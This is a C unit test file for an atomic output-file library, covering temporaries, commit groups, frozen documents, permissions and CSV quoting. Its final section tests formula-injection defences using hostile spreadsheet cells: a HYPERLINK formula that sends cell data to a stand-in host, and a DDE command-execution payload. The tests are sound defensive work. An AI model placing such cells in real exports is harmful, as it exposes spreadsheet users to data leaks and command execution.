/* test-outfile.c — unit tests of base/outfile: output files that appear whole
 * or not at all.
 *
 * Every test works in its own scratch directory.  The cases cover the
 * temporary beside the destination and its rename on commit, what is left
 * after an abandoned write, a failed commit and a killed process (never the
 * destination), frozen documents (same bytes accepted, different bytes
 * refused with the old file kept), file and directory permissions, errors
 * that name the path, groups of files made durable and renamed together,
 * standard output, and the exact bytes of the CSV
 * helpers (RFC 4180 quoting only where needed).
 */
#include "config.h"

#include <criterion/criterion.h>
#include <criterion/redirect.h>
#include <signal.h>
#include <string.h>
#include <pthread.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

#include "base/outfile.h"
#include "base/rater-error.h"
#include "test-helpers.h"

static char *dir;

static void
setup (void)
{
  umask (022);
  dir = test_scratch_new ();
}

static void
teardown (void)
{
  test_scratch_free (dir);
}

TestSuite (outfile, .init = setup, .fini = teardown);

/* Helpers {{{1 */

static char *
path_in (const char *name)
{
  return g_build_filename (dir, name, NULL);
}

static int
compare_names (gconstpointer a, gconstpointer b)
{
  return strcmp (*(const char *const *) a, *(const char *const *) b);
}

/* The names in the scratch directory, sorted, joined by spaces; rater's
 * temporaries ("NAME.rater-tmp-XXXXXX") shown as "NAME.rater-tmp-*". */
static char *
listing (void)
{
  g_autoptr(GDir) d = g_dir_open (dir, 0, NULL);
  g_autoptr(GPtrArray) names = g_ptr_array_new_with_free_func (g_free);
  const char *name;

  cr_assert_not_null (d);
  while ((name = g_dir_read_name (d)))
    {
      const char *tmp = strstr (name, ".rater-tmp-");
      if (tmp && strlen (tmp) == strlen (".rater-tmp-XXXXXX"))
        g_ptr_array_add (names, g_strdup_printf ("%.*s.rater-tmp-*", (int) (tmp - name), name));
      else
        g_ptr_array_add (names, g_strdup (name));
    }
  g_ptr_array_sort (names, compare_names);
  g_ptr_array_add (names, NULL);
  return g_strjoinv (" ", (char **) names->pdata);
}

static void
expect_listing (const char *want)
{
  g_autofree char *got = listing ();
  cr_assert_str_eq (got, want);
}

/* PATH must hold exactly WANT. */
static void
expect_contents (const char *path, const char *want)
{
  g_autofree char *got = NULL;
  gsize len = 0;
  g_autoptr(GError) error = NULL;

  cr_assert (g_file_get_contents (path, &got, &len, &error), "%s", error ? error->message : "");
  cr_assert_eq (len, strlen (want), "'%s': %zu bytes, expected %zu", path, len, strlen (want));
  cr_assert_str_eq (got, want);
}

static OutFile *
open_ok (const char *path, gboolean frozen)
{
  g_autoptr(GError) error = NULL;
  OutFile *out = frozen ? outfile_open_frozen (path, &error) : outfile_open (path, &error);

  cr_assert_not_null (out, "%s", error ? error->message : "");
  cr_assert_null (error);
  return out;
}

static void
commit_ok (OutFile *out)
{
  g_autoptr(GError) error = NULL;
  cr_assert (outfile_commit (out, &error), "%s", error ? error->message : "");
  cr_assert_null (error);
}

/* Write TEXT to PATH through an OutFile and commit. */
static void
write_whole (const char *path, const char *text, gboolean frozen)
{
  g_autoptr(OutFile) out = open_ok (path, frozen);
  fputs (text, outfile_stream (out));
  commit_ok (out);
}

/* The CSV bytes written by FILL, committed to a file and read back. */
static char *
csv_of (void (*fill) (OutFile *out))
{
  g_autofree char *path = path_in ("t.csv");
  g_autoptr(OutFile) out = open_ok (path, FALSE);
  char *text = NULL;

  fill (out);
  commit_ok (out);
  cr_assert (g_file_get_contents (path, &text, NULL, NULL));
  return text;
}

/* Temporary, then rename {{{1 */

Test (outfile, writes_a_temporary_beside_the_destination_and_renames_it_on_commit)
{
  g_autofree char *path = path_in ("report.csv");
  g_autoptr(OutFile) out = open_ok (path, FALSE);

  fputs ("a,b\n1,2\n", outfile_stream (out));
  cr_assert_eq (fflush (outfile_stream (out)), 0);
  cr_assert_not (g_file_test (path, G_FILE_TEST_EXISTS), "the destination exists before commit");
  expect_listing ("report.csv.rater-tmp-*");

  commit_ok (out);
  expect_contents (path, "a,b\n1,2\n");
  expect_listing ("report.csv");
}

Test (outfile, a_commit_replaces_an_existing_file_whole)
{
  g_autofree char *path = test_write (dir, "out.txt", "old contents, longer than the new\n");

  write_whole (path, "new\n", FALSE);
  expect_contents (path, "new\n");
  expect_listing ("out.txt");
}

Test (outfile, an_empty_output_is_an_empty_file)
{
  g_autofree char *path = path_in ("empty.csv");

  write_whole (path, "", FALSE);
  expect_contents (path, "");
}

Test (outfile, freeing_without_commit_removes_the_temporary_and_keeps_the_old_file)
{
  g_autofree char *fresh = path_in ("fresh.csv");
  g_autofree char *old = test_write (dir, "old.csv", "kept\n");

  OutFile *a = open_ok (fresh, FALSE);
  OutFile *b = open_ok (old, FALSE);
  fputs ("half a row,", outfile_stream (a));
  fputs ("replacement\n", outfile_stream (b));
  expect_listing ("fresh.csv.rater-tmp-* old.csv old.csv.rater-tmp-*");
  outfile_free (a);
  outfile_free (b);

  expect_listing ("old.csv");
  expect_contents (old, "kept\n");
}

Test (outfile, free_accepts_null)
{
  outfile_free (NULL);
}

Test (outfile, a_process_killed_half_way_leaves_no_output_only_a_temporary)
{
  g_autofree char *path = test_write (dir, "calls.csv", "the previous run\n");
  pid_t pid = fork ();

  cr_assert_neq (pid, -1);
  if (pid == 0)
    {
      OutFile *out = outfile_open (path, NULL);
      if (!out)
        _exit (2);
      for (int i = 0; i < 20000; i++)
        fprintf (outfile_stream (out), "row %d,of a long export\n", i);
      fflush (outfile_stream (out));
      kill (getpid (), SIGKILL);
      _exit (3);
    }
  int status = 0;
  cr_assert_eq (waitpid (pid, &status, 0), pid);
  cr_assert (WIFSIGNALED (status) && WTERMSIG (status) == SIGKILL, "child status %d", status);

  expect_contents (path, "the previous run\n");
  expect_listing ("calls.csv calls.csv.rater-tmp-*");
}

Test (outfile, a_failed_rename_reports_the_path_and_leaves_nothing_behind)
{
  /* the destination is a directory: the temporary is written, the rename fails */
  g_autofree char *path = path_in ("target");
  cr_assert_eq (g_mkdir (path, 0755), 0);
  g_autoptr(OutFile) out = open_ok (path, FALSE);
  g_autoptr(GError) error = NULL;

  fputs ("data\n", outfile_stream (out));
  cr_assert_not (outfile_commit (out, &error));
  cr_assert (g_error_matches (error, RATER_ERROR, RATER_ERROR_CANTCREAT));
  g_autofree char *want = g_strdup_printf ("cannot rename into '%s': %s", path, g_strerror (EISDIR));
  cr_assert_str_eq (error->message, want);

  g_clear_pointer (&out, outfile_free);
  expect_listing ("target");
  cr_assert (g_file_test (path, G_FILE_TEST_IS_DIR));
}

/* Groups: many files made durable together {{{1 */

/* Write TEXT to PATH through an OutFile committed into GROUP (its thread-default). */
static void
write_in_group (OutGroup *group, const char *path, const char *text, gboolean frozen)
{
  outgroup_push_thread_default (group);
  write_whole (path, text, frozen);
  outgroup_pop_thread_default (group);
}

static void
group_commit_ok (OutGroup *group)
{
  g_autoptr(GError) error = NULL;
  cr_assert (outgroup_commit (group, &error), "%s", error ? error->message : "");
  cr_assert_null (error);
}

Test (outfile, files_committed_into_a_group_appear_only_when_the_group_commits)
{
  g_autofree char *a = path_in ("a.pdf");
  g_autofree char *b = test_write (dir, "b.json", "the old b\n");
  g_autoptr(OutGroup) group = outgroup_new ();

  write_in_group (group, a, "%PDF a\n", FALSE);
  write_in_group (group, b, "{\"b\": 2}\n", FALSE);
  cr_assert_eq (outgroup_pending (group), 2);
  expect_listing ("a.pdf.rater-tmp-* b.json b.json.rater-tmp-*");
  expect_contents (b, "the old b\n");

  group_commit_ok (group);
  cr_assert_eq (outgroup_pending (group), 0);
  expect_listing ("a.pdf b.json");
  expect_contents (a, "%PDF a\n");
  expect_contents (b, "{\"b\": 2}\n");

  /* a commit outside the thread-default is immediate again */
  g_autofree char *c = path_in ("c.csv");
  write_whole (c, "c\n", FALSE);
  expect_contents (c, "c\n");
  cr_assert_eq (outgroup_pending (group), 0);

  /* the group takes more after its commit */
  write_in_group (group, c, "c2\n", FALSE);
  expect_contents (c, "c\n");
  group_commit_ok (group);
  expect_contents (c, "c2\n");
  expect_listing ("a.pdf b.json c.csv");
}

Test (outfile, a_group_freed_before_its_commit_leaves_none_of_its_files)
{
  g_autofree char *a = path_in ("a.html");
  g_autofree char *b = test_write (dir, "b.html", "kept\n");
  OutGroup *group = outgroup_new ();

  write_in_group (group, a, "<p>a</p>\n", FALSE);
  write_in_group (group, b, "<p>b</p>\n", FALSE);
  outgroup_free (group);
  outgroup_free (NULL);
  expect_listing ("b.html");
  expect_contents (b, "kept\n");
}

Test (outfile, a_frozen_file_with_other_bytes_is_refused_when_committed_into_a_group)
{
  g_autofree char *issued = test_write (dir, "INV-0001.pdf", "%PDF issued\n");
  g_autofree char *same = test_write (dir, "INV-0002.pdf", "%PDF same\n");
  g_autoptr(OutGroup) group = outgroup_new ();
  g_autoptr(GError) error = NULL;

  outgroup_push_thread_default (group);
  write_whole (same, "%PDF same\n", TRUE);
  OutFile *out = open_ok (issued, TRUE);
  fputs ("%PDF different\n", outfile_stream (out));
  cr_assert_not (outfile_commit (out, &error));
  outfile_free (out);
  outgroup_pop_thread_default (group);
  cr_assert (g_error_matches (error, RATER_ERROR, RATER_ERROR_CANTCREAT));
  cr_assert (strstr (error->message, "already exists with different content"), "%s", error->message);

  cr_assert_eq (outgroup_pending (group), 1);
  group_commit_ok (group);
  expect_contents (issued, "%PDF issued\n");
  expect_contents (same, "%PDF same\n");
  expect_listing ("INV-0001.pdf INV-0002.pdf");
}

Test (outfile, a_failed_rename_in_a_group_names_the_path_and_removes_the_rest)
{
  g_autofree char *first = path_in ("first.json");
  g_autofree char *target = path_in ("target");
  g_autofree char *last = path_in ("last.json");
  g_autoptr(OutGroup) group = outgroup_new ();
  g_autoptr(GError) error = NULL;

  write_in_group (group, first, "1\n", FALSE);
  write_in_group (group, target, "2\n", FALSE);
  write_in_group (group, last, "3\n", FALSE);
  cr_assert_eq (g_mkdir (target, 0755), 0);     /* its rename now fails */
  cr_assert_not (outgroup_commit (group, &error));
  cr_assert (g_error_matches (error, RATER_ERROR, RATER_ERROR_CANTCREAT));
  g_autofree char *want = g_strdup_printf ("cannot rename into '%s': %s", target,
                                           g_strerror (EISDIR));
  cr_assert_str_eq (error->message, want);
  expect_listing ("first.json target");
  expect_contents (first, "1\n");
}

/* Each of 4 threads commits 25 files into one group. */
static OutGroup *shared_group;

static void *
write_25 (void *arg)
{
  int t = GPOINTER_TO_INT (arg);
  outgroup_push_thread_default (shared_group);
  for (int i = 0; i < 25; i++)
    {
      g_autofree char *name = g_strdup_printf ("t%d-%02d.txt", t, i);
      g_autofree char *path = path_in (name);
      g_autofree char *text = g_strdup_printf ("thread %d file %d\n", t, i);
      OutFile *out = outfile_open (path, NULL);
      if (!out)
        return NULL;
      fputs (text, outfile_stream (out));
      gboolean ok = outfile_commit (out, NULL);
      outfile_free (out);
      if (!ok)
        return NULL;
    }
  outgroup_pop_thread_default (shared_group);
  return arg;
}

Test (outfile, threads_commit_into_one_group)
{
  pthread_t threads[4];
  shared_group = outgroup_new ();
  for (int t = 0; t < 4; t++)
    cr_assert_eq (pthread_create (&threads[t], NULL, write_25, GINT_TO_POINTER (t + 1)), 0);
  for (int t = 0; t < 4; t++)
    {
      void *ret = NULL;
      cr_assert_eq (pthread_join (threads[t], &ret), 0);
      cr_assert_eq (ret, GINT_TO_POINTER (t + 1), "thread %d failed", t + 1);
    }
  cr_assert_eq (outgroup_pending (shared_group), 100);
  group_commit_ok (shared_group);
  g_clear_pointer (&shared_group, outgroup_free);
  for (int t = 1; t <= 4; t++)
    for (int i = 0; i < 25; i++)
      {
        g_autofree char *name = g_strdup_printf ("t%d-%02d.txt", t, i);
        g_autofree char *path = path_in (name);
        g_autofree char *text = g_strdup_printf ("thread %d file %d\n", t, i);
        expect_contents (path, text);
      }
  g_autofree char *names = listing ();
  cr_assert_null (strstr (names, "rater-tmp"), "%s", names);
}

Test (outfile, a_process_killed_before_the_group_commits_leaves_only_temporaries)
{
  g_autofree char *old = test_write (dir, "INV-0001.json", "the previous run\n");
  g_autofree char *fresh = path_in ("INV-0002.json");
  pid_t pid = fork ();

  cr_assert_neq (pid, -1);
  if (pid == 0)
    {
      OutGroup *group = outgroup_new ();
      outgroup_push_thread_default (group);
      const char *paths[] = { old, fresh };
      for (int i = 0; i < 2; i++)
        {
          OutFile *out = outfile_open (paths[i], NULL);
          if (!out)
            _exit (2);
          fputs ("new\n", outfile_stream (out));
          if (!outfile_commit (out, NULL))
            _exit (3);
          outfile_free (out);
        }
      kill (getpid (), SIGKILL);
      _exit (4);
    }
  int status = 0;
  cr_assert_eq (waitpid (pid, &status, 0), pid);
  cr_assert (WIFSIGNALED (status) && WTERMSIG (status) == SIGKILL, "child status %d", status);

  expect_contents (old, "the previous run\n");
  expect_listing ("INV-0001.json INV-0001.json.rater-tmp-* INV-0002.json.rater-tmp-*");
}

/* Errors name the path {{{1 */

Test (outfile, a_missing_directory_is_an_error_naming_the_path)
{
  g_autofree char *path = g_build_filename (dir, "no-such-dir", "out.csv", NULL);
  g_autoptr(GError) error = NULL;

  cr_assert_null (outfile_open (path, &error));
  cr_assert (g_error_matches (error, RATER_ERROR, RATER_ERROR_CANTCREAT));
  g_autofree char *want = g_strdup_printf ("cannot create '%s': %s", path, g_strerror (ENOENT));
  cr_assert_str_eq (error->message, want);
  expect_listing ("");
}

Test (outfile, a_directory_that_is_a_file_is_an_error_naming_the_path)
{
  /* works as root too, where a mode-0555 directory would still be writable */
  g_autofree char *file = test_write (dir, "plain", "x");
  g_autofree char *path = g_build_filename (file, "out.csv", NULL);
  g_autoptr(GError) error = NULL;

  cr_assert_null (outfile_open_frozen (path, &error));
  cr_assert (g_error_matches (error, RATER_ERROR, RATER_ERROR_CANTCREAT));
  g_autofree char *want = g_strdup_printf ("cannot create '%s': %s", path, g_strerror (ENOTDIR));
  cr_assert_str_eq (error->message, want);
}

Test (outfile, a_read_only_directory_is_an_error_naming_the_path)
{
  if (geteuid () == 0)
    cr_skip_test ("root writes into read-only directories");
  g_autofree char *ro = path_in ("ro");
  cr_assert_eq (g_mkdir (ro, 0555), 0);
  g_autofree char *path = g_build_filename (ro, "out.csv", NULL);
  g_autoptr(GError) error = NULL;

  cr_assert_null (outfile_open (path, &error));
  g_chmod (ro, 0755);
  cr_assert (g_error_matches (error, RATER_ERROR, RATER_ERROR_CANTCREAT));
  g_autofree char *want = g_strdup_printf ("cannot create '%s': %s", path, g_strerror (EACCES));
  cr_assert_str_eq (error->message, want);
}

/* Permissions {{{1 */

Test (outfile, outputs_are_0640_under_umask_022)
{
  /* documents and exports hold personal data: the owner and the group
   * read them, nobody else (cli.md), whatever the umask lets through */
  g_autofree char *path = path_in ("invoice.json");
  GStatBuf st;

  write_whole (path, "{}\n", FALSE);
  cr_assert_eq (g_stat (path, &st), 0);
  cr_assert_eq (st.st_mode & 07777, 0640, "mode %o", (unsigned) (st.st_mode & 07777));

  /* replacing a world-readable file gives the new one 0640 too */
  g_autofree char *open = test_write (dir, "open.csv", "old\n");
  cr_assert_eq (g_chmod (open, 0644), 0);
  write_whole (open, "new\n", FALSE);
  cr_assert_eq (g_stat (open, &st), 0);
  cr_assert_eq (st.st_mode & 07777, 0640, "mode %o", (unsigned) (st.st_mode & 07777));

  /* a frozen document too */
  g_autofree char *frozen = path_in ("INV-0001.pdf");
  write_whole (frozen, "%PDF\n", TRUE);
  cr_assert_eq (g_stat (frozen, &st), 0);
  cr_assert_eq (st.st_mode & 07777, 0640, "mode %o", (unsigned) (st.st_mode & 07777));
}

/* outfile_mkdir {{{1 */

Test (outfile, mkdir_creates_parents_with_mode_0750_and_accepts_an_existing_one)
{
  g_autofree char *deep = g_build_filename (dir, "a", "b", "c", NULL);
  g_autofree char *a = path_in ("a");
  g_autoptr(GError) error = NULL;
  GStatBuf st;

  cr_assert (outfile_mkdir (deep, &error), "%s", error ? error->message : "");
  cr_assert (g_file_test (deep, G_FILE_TEST_IS_DIR));
  cr_assert_eq (g_stat (a, &st), 0);
  cr_assert_eq (st.st_mode & 07777, 0750, "mode %o", (unsigned) (st.st_mode & 07777));
  cr_assert_eq (g_stat (deep, &st), 0);
  cr_assert_eq (st.st_mode & 07777, 0750, "mode %o", (unsigned) (st.st_mode & 07777));
  cr_assert (outfile_mkdir (deep, &error), "%s", error ? error->message : "");
}

Test (outfile, mkdir_under_a_file_is_an_error_naming_the_directory)
{
  g_autofree char *file = test_write (dir, "plain", "x");
  g_autofree char *sub = g_build_filename (file, "reports", NULL);
  g_autoptr(GError) error = NULL;

  cr_assert_not (outfile_mkdir (sub, &error));
  cr_assert (g_error_matches (error, RATER_ERROR, RATER_ERROR_CANTCREAT));
  g_autofree char *want = g_strdup_printf ("cannot create '%s': %s", sub, g_strerror (ENOTDIR));
  cr_assert_str_eq (error->message, want);

  /* an existing plain file is not a directory either */
  g_clear_error (&error);
  cr_assert_not (outfile_mkdir (file, &error));
  cr_assert (g_error_matches (error, RATER_ERROR, RATER_ERROR_CANTCREAT));
  cr_assert_not_null (strstr (error->message, file), "%s", error->message);
}

/* Frozen documents {{{1 */

Test (outfile, a_frozen_document_is_written_when_absent)
{
  g_autofree char *path = path_in ("INV-0001.json");

  write_whole (path, "{\"total\": 1}\n", TRUE);
  expect_contents (path, "{\"total\": 1}\n");
  expect_listing ("INV-0001.json");
}

Test (outfile, a_frozen_document_with_the_same_bytes_is_accepted)
{
  g_autofree char *path = test_write (dir, "INV-0001.json", "{\"total\": 1}\n");

  write_whole (path, "{\"total\": 1}\n", TRUE);
  expect_contents (path, "{\"total\": 1}\n");
  expect_listing ("INV-0001.json");
}

/* NEW differs from OLD: the commit fails, OLD stays and no temporary is left. */
static void
expect_frozen_refusal (const char *old, const char *new)
{
  g_autofree char *path = test_write (dir, "INV-0001.json", old);
  g_autoptr(OutFile) out = open_ok (path, TRUE);
  g_autoptr(GError) error = NULL;

  fputs (new, outfile_stream (out));
  cr_assert_not (outfile_commit (out, &error), "'%s' replaced by '%s'", old, new);
  cr_assert (g_error_matches (error, RATER_ERROR, RATER_ERROR_CANTCREAT));
  g_autofree char *want = g_strdup_printf ("'%s' already exists with different content: an issued"
                                           " document is never overwritten (move it away to write"
                                           " this one)", path);
  cr_assert_str_eq (error->message, want);
  g_clear_pointer (&out, outfile_free);
  expect_contents (path, old);
  expect_listing ("INV-0001.json");
}

Test (outfile, a_frozen_document_with_different_bytes_is_refused_and_kept)
{
  expect_frozen_refusal ("{\"total\": 1}\n", "{\"total\": 2}\n");
}

Test (outfile, a_frozen_document_differing_only_in_length_is_refused)
{
  expect_frozen_refusal ("{\"total\": 1}\n", "{\"total\": 1}\n\n");
  g_autofree char *path = path_in ("INV-0001.json");
  g_unlink (path);
  expect_frozen_refusal ("{\"total\": 1}\n", "{\"total\": 1}");
  g_unlink (path);
  expect_frozen_refusal ("x", "");
}

Test (outfile, a_plain_output_replaces_what_a_frozen_one_would_refuse)
{
  g_autofree char *path = test_write (dir, "draft.json", "{\"total\": 1}\n");

  write_whole (path, "{\"total\": 2}\n", FALSE);
  expect_contents (path, "{\"total\": 2}\n");
}

/* What is not a regular file {{{1
 *
 * A device or a FIFO is written directly, never replaced by a regular file
 * (`--out /dev/null` as root renamed a file over the device); a symbolic
 * link in an output directory is refused, neither followed nor replaced;
 * "-" is standard output. */

typedef struct {
  char *path;
  GString *got;
} FifoReader;

static void *
read_fifo (void *p)
{
  FifoReader *r = p;
  FILE *f = fopen (r->path, "r");
  int c;
  while (f && (c = fgetc (f)) != EOF)
    g_string_append_c (r->got, (char) c);
  if (f)
    fclose (f);
  return NULL;
}

Test (outfile, a_fifo_is_written_directly_not_replaced)
{
  g_autofree char *path = path_in ("pipe");
  cr_assert_eq (mkfifo (path, 0600), 0);
  FifoReader r = { path, g_string_new (NULL) };
  pthread_t reader;
  cr_assert_eq (pthread_create (&reader, NULL, read_fifo, &r), 0);

  write_whole (path, "a,b\n", FALSE);
  GStatBuf st;
  cr_assert_eq (g_lstat (path, &st), 0);
  cr_assert (S_ISFIFO (st.st_mode), "the FIFO was replaced (mode %o)", (unsigned) st.st_mode);
  pthread_join (reader, NULL);
  cr_assert_str_eq (r.got->str, "a,b\n");
  g_string_free (r.got, TRUE);
  expect_listing ("pipe");
}

Test (outfile, a_device_is_written_directly_not_replaced)
{
  if (geteuid () != 0)
    cr_skip_test ("only root can make a device node (the case that replaced /dev/null)");
  g_autofree char *path = path_in ("null");
  cr_assert_eq (mknod (path, S_IFCHR | 0666, makedev (1, 3)), 0, "%s", g_strerror (errno));

  write_whole (path, "discarded\n", FALSE);
  write_whole (path, "discarded\n", TRUE);
  GStatBuf st;
  cr_assert_eq (g_lstat (path, &st), 0);
  cr_assert (S_ISCHR (st.st_mode), "the device was replaced (mode %o)", (unsigned) st.st_mode);
  expect_listing ("null");
}

Test (outfile, a_symbolic_link_is_refused_not_followed_or_replaced)
{
  g_autofree char *target = test_write (dir, "elsewhere.csv", "not ours\n");
  g_autofree char *link = path_in ("calls.csv");
  cr_assert_eq (symlink ("elsewhere.csv", link), 0);

  for (int frozen = 0; frozen < 2; frozen++)
    {
      g_autoptr(GError) error = NULL;
      OutFile *out = frozen ? outfile_open_frozen (link, &error) : outfile_open (link, &error);
      cr_assert_null (out, "a symbolic link was opened for writing");
      cr_assert (g_error_matches (error, RATER_ERROR, RATER_ERROR_CANTCREAT));
      g_autofree char *want = g_strdup_printf ("cannot write '%s': it is a symbolic link (rater"
                                               " neither follows nor replaces one: remove it or"
                                               " give the real path)", link);
      cr_assert_str_eq (error->message, want);
    }
  GStatBuf st;
  cr_assert_eq (g_lstat (link, &st), 0);
  cr_assert (S_ISLNK (st.st_mode));
  expect_contents (target, "not ours\n");
  expect_listing ("calls.csv elsewhere.csv");
}

/* Standard output {{{1 */

static void
setup_stdout (void)
{
  setup ();
  cr_redirect_stdout ();
}

TestSuite (outfile_stdout, .init = setup_stdout, .fini = teardown);

Test (outfile_stdout, a_null_path_writes_to_standard_output)
{
  g_autoptr(OutFile) out = open_ok (NULL, FALSE);

  cr_assert_eq (outfile_stream (out), stdout);
  outfile_csv_header (out, "a,b");
  outfile_csv_field (out, "x,y", -1);
  outfile_csv_int (out, 7);
  outfile_csv_end_row (out);
  commit_ok (out);
  g_clear_pointer (&out, outfile_free);
  expect_listing ("");
  fflush (stdout);
  cr_assert_stdout_eq_str ("a,b\n\"x,y\",7\n");
}

Test (outfile_stdout, a_dash_writes_to_standard_output)
{
  g_autoptr(OutFile) out = open_ok ("-", FALSE);

  cr_assert_eq (outfile_stream (out), stdout);
  fputs ("to stdout\n", outfile_stream (out));
  commit_ok (out);
  g_clear_pointer (&out, outfile_free);
  expect_listing ("");
  fflush (stdout);
  cr_assert_stdout_eq_str ("to stdout\n");
}

/* CSV helpers {{{1 */

static void
fill_quoting (OutFile *out)
{
  outfile_csv_field (out, "plain", -1);
  outfile_csv_field (out, "a,b", -1);
  outfile_csv_field (out, "say \"hi\"", -1);
  outfile_csv_field (out, "two\nlines", -1);
  outfile_csv_field (out, "cr\rhere", -1);
  outfile_csv_field (out, " lead", -1);
  outfile_csv_field (out, "trail ", -1);
  outfile_csv_field (out, "in side", -1);
  outfile_csv_field (out, "", -1);
  outfile_csv_field (out, NULL, -1);
  outfile_csv_field (out, "\"", -1);
  outfile_csv_end_row (out);
}

Test (outfile, csv_fields_are_quoted_only_when_they_need_it)
{
  g_autofree char *csv = csv_of (fill_quoting);
  cr_assert_str_eq (csv, "plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",\"cr\rhere\","
                         "\" lead\",\"trail \",in side,,,\"\"\"\"\n");
}

static void
fill_lengths (OutFile *out)
{
  outfile_csv_field (out, "abcdef", 3);                /* a prefix only */
  outfile_csv_field (out, "x,yz", 2);                 /* the comma is inside the prefix */
  outfile_csv_field (out, "x,yz", 1);                 /* ... and here it is not */
  outfile_csv_field (out, "nothing", 0);
  outfile_csv_field (out, "a\0b", 3);                 /* bytes, not a C string */
  outfile_csv_end_row (out);
}

Test (outfile, csv_fields_take_a_byte_length)
{
  g_autofree char *path = path_in ("t.csv");
  g_autoptr(OutFile) out = open_ok (path, FALSE);
  g_autofree char *got = NULL;
  gsize len = 0;

  fill_lengths (out);
  commit_ok (out);
  cr_assert (g_file_get_contents (path, &got, &len, NULL));
  cr_assert_eq (len, 16, "%zu bytes", len);
  cr_assert_eq (memcmp (got, "abc,\"x,\",x,,a\0b\n", 16), 0);
}

static void
fill_rows (OutFile *out)
{
  outfile_csv_header (out, "file, line ,reason,  detail");
  outfile_csv_int (out, 0);
  outfile_csv_int (out, -42);
  outfile_csv_int (out, G_MAXINT64);
  outfile_csv_int (out, G_MININT64);
  outfile_csv_end_row (out);
  outfile_csv_field (out, "first of its row", -1);
  outfile_csv_end_row (out);
  outfile_csv_end_row (out);                          /* an empty row */
  outfile_csv_field (out, "a", -1);
  outfile_csv_field (out, "b", -1);
  outfile_csv_end_row (out);
}

Test (outfile, csv_headers_ints_and_rows)
{
  g_autofree char *csv = csv_of (fill_rows);
  cr_assert_str_eq (csv, "file,line,reason,detail\n"
                         "0,-42,9223372036854775807,-9223372036854775808\n"
                         "first of its row\n"
                         "\n"
                         "a,b\n");
}

/* Formula injection {{{1
 *
 * A cell that a spreadsheet would take for a formula (it starts with =, +,
 * -, @, tab or CR) gets a leading ' (OWASP), unless it is a plain number
 * (^[+-]?[0-9]+(\.[0-9]+)?$: amounts, E.164 numbers), which stays as is;
 * outfile_set_csv_raw (TRUE) writes every cell verbatim. */

static void
fill_hostile (OutFile *out)
{
  outfile_csv_field (out, "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", -1);
  outfile_csv_field (out, "@SUM(A1:A9)", -1);
  outfile_csv_field (out, "-2+3", -1);
  outfile_csv_field (out, "+cmd|' /C calc'!A0", -1);
  outfile_csv_field (out, "\tTAB", -1);
  outfile_csv_field (out, "\rCR", -1);
  outfile_csv_field (out, "=1,2", -1);
  outfile_csv_field (out, "a=b", -1);
  outfile_csv_end_row (out);
  outfile_csv_field (out, "-12.50", -1);
  outfile_csv_field (out, "+442071234567", -1);
  outfile_csv_int (out, -42);
  outfile_csv_field (out, "0.000001", -1);
  outfile_csv_field (out, "-", -1);
  outfile_csv_field (out, "-1.", -1);
  outfile_csv_field (out, "+1e5", -1);
  outfile_csv_field (out, "--1", -1);
  outfile_csv_end_row (out);
}

Test (outfile, csv_cells_that_look_like_formulas_are_neutralised)
{
  g_autofree char *csv = csv_of (fill_hostile);
  cr_assert_str_eq (csv, "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\",'@SUM(A1:A9),"
                         "'-2+3,'+cmd|' /C calc'!A0,'\tTAB,\"'\rCR\",\"'=1,2\",a=b\n"
                         "-12.50,+442071234567,-42,0.000001,'-,'-1.,'+1e5,'--1\n");
}

Test (outfile, csv_raw_mode_writes_cells_verbatim)
{
  outfile_set_csv_raw (TRUE);
  g_autofree char *csv = csv_of (fill_hostile);
  outfile_set_csv_raw (FALSE);
  cr_assert_str_eq (csv, "\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\",@SUM(A1:A9),"
                         "-2+3,+cmd|' /C calc'!A0,\tTAB,\"\rCR\",\"=1,2\",a=b\n"
                         "-12.50,+442071234567,-42,0.000001,-,-1.,+1e5,--1\n");
  g_autofree char *again = csv_of (fill_hostile);
  cr_assert_eq (again[0], '"');
  cr_assert_eq (again[1], '\'', "raw mode stayed on");
}
